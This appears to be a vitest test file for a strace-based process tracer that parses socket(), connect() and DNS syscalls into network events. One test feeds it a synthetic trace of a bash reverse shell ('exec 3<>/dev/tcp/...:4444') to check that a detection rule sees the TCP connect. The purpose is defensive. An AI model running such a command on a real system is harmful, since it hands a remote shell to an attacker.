// Sockets under `strace -y`: protocol from socket(), peer from connect(), keyed
// by inode (sockets.ts). node-sockets.log is a real trace recorded with the
// product's flags (record.sh, scenario 6).
import { describe, expect, it } from 'vitest';
import { straceArgs, TRACED_SYSCALLS } from '../../../src/tracers/strace/command.js';
import { SocketTable, socketInode, socketTransport } from '../../../src/tracers/strace/sockets.js';
import { ofKind, pushAll, replay } from './helpers.js';

describe('node-sockets.log: TCP, /dev/tcp, DNS over connected UDP, unconnected UDP (-y)', () => {
  const { events, asm } = replay('node-sockets.log', '/tmp/gi-fx/node-sockets');
  const connects = ofKind(events, 'network-connect').map((e) => [e.process.name, e.syscall.name, e.network.transport, e.destination.address, e.destination.port, e.event.outcome]);

  it('parses every line', () => {
    expect(asm.stats.unparsed).toBe(0);
  });

  it('knows each connection protocol from the socket() that made it', () => {
    const port = ofKind(events, 'network-connect').find((e) => e.process.name === 'node')?.destination.port;
    expect(connects).toEqual([
      ['node', 'connect', 'tcp', '127.0.0.1', port, 'unknown'], // non-blocking: EINPROGRESS
      ['bash', 'connect', 'unix', '/var/run/nscd/socket', undefined, 'failure'],
      ['bash', 'connect', 'unix', '/var/run/nscd/socket', undefined, 'failure'],
      ['bash', 'connect', 'tcp', '127.0.0.1', port, 'success'], // exec 3<>/dev/tcp/...
      ['node', 'connect', 'udp', '127.0.0.1', 53, 'success'],
      ['node', 'sendmsg', 'udp', '127.0.0.1', 5353, 'success'],
    ]);
  });

  it('names the DNS query sent on a connected socket, with the peer its connect() gave', () => {
    expect(ofKind(events, 'dns-query').map((e) => [e.dns.question.name, e.destination.ip, e.destination.port])).toEqual([['example.com', '127.0.0.1', 53]]);
  });
});

describe('SocketTable', () => {
  it('reads both decorations: -y through what it was told, -yy directly', () => {
    const table = new SocketTable();
    table.created('7', 'udp');
    table.connected('7', { ip: '10.0.0.53', port: 53 });
    expect(table.describe('socket:[7]')).toEqual({ transport: 'udp', peer: { ip: '10.0.0.53', port: 53 } });
    expect(table.describe('UDP:[10.0.0.2:5000->127.0.0.53:53]')).toEqual({ transport: 'udp', peer: { ip: '127.0.0.53', port: 53 } });
    expect(table.describe('TCP:[8856]')).toEqual({ transport: 'tcp' });
    expect(table.describe(undefined)).toEqual({ transport: 'unknown' });
  });

  it('a socket made before the trace began: peer known, protocol not guessed', () => {
    const table = new SocketTable();
    table.connected('9', { ip: '203.0.113.45', port: 443 });
    expect(table.describe('socket:[9]')).toEqual({ transport: 'unknown', peer: { ip: '203.0.113.45', port: 443 } });
    expect(table.describe('socket:[10]')).toEqual({ transport: 'unknown' });
  });

  it('a reused inode is a new socket', () => {
    const table = new SocketTable();
    table.created('5', 'udp');
    table.connected('5', { ip: '127.0.0.1', port: 53 });
    table.created('5', 'tcp');
    expect(table.describe('socket:[5]')).toEqual({ transport: 'tcp' });
  });

  it('stays bounded under a socket flood: the oldest are forgotten', () => {
    const table = new SocketTable();
    for (let i = 0; i <= 20_000; i++) table.created(String(i), 'tcp');
    expect(table.describe('socket:[0]')).toEqual({ transport: 'unknown' });
    expect(table.describe('socket:[1]')).toEqual({ transport: 'tcp' });
    expect(table.describe('socket:[20000]')).toEqual({ transport: 'tcp' });
  });
});

describe('socket() arguments and decorations', () => {
  it('maps family and type to a transport', () => {
    expect(socketTransport(['AF_INET', 'SOCK_STREAM|SOCK_CLOEXEC', 'IPPROTO_IP'])).toBe('tcp');
    expect(socketTransport(['AF_INET6', 'SOCK_DGRAM|SOCK_NONBLOCK', 'IPPROTO_IP'])).toBe('udp');
    expect(socketTransport(['AF_UNIX', 'SOCK_STREAM', '0'])).toBe('unix');
    expect(socketTransport(['AF_INET', 'SOCK_RAW', 'IPPROTO_ICMP'])).toBe('unknown');
    expect(socketTransport(['AF_NETLINK', 'SOCK_RAW', 'NETLINK_ROUTE'])).toBe('unknown');
    expect(socketTransport([])).toBe('unknown');
  });

  it('takes the inode from -y decorations only', () => {
    expect(socketInode('socket:[447647]')).toBe('447647');
    expect(socketInode('TCP:[447647]')).toBeUndefined();
    expect(socketInode('/tmp/x')).toBeUndefined();
    expect(socketInode(undefined)).toBeUndefined();
  });

  it('a reverse shell from a shell is a TCP connect even without -yy (GI-NET-005 needs the protocol)', () => {
    const { events } = pushAll([
      '1 1.0 execve("/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.45/4444"], 0x1 /* 1 vars */) = 0',
      '1 1.1 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3<socket:[501]>',
      '1 1.2 connect(3<socket:[501]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("203.0.113.45")}, 16) = 0',
    ]);
    expect(ofKind(events, 'network-connect').map((e) => [e.process.name, e.network.transport, e.destination.ip])).toEqual([['bash', 'tcp', '203.0.113.45']]);
  });

  it('the product traces socket() and asks strace for -y, not -yy', () => {
    expect(TRACED_SYSCALLS).toContain('socket');
    expect(straceArgs()).toContain('-y');
    expect(straceArgs()).not.toContain('-yy');
  });
});
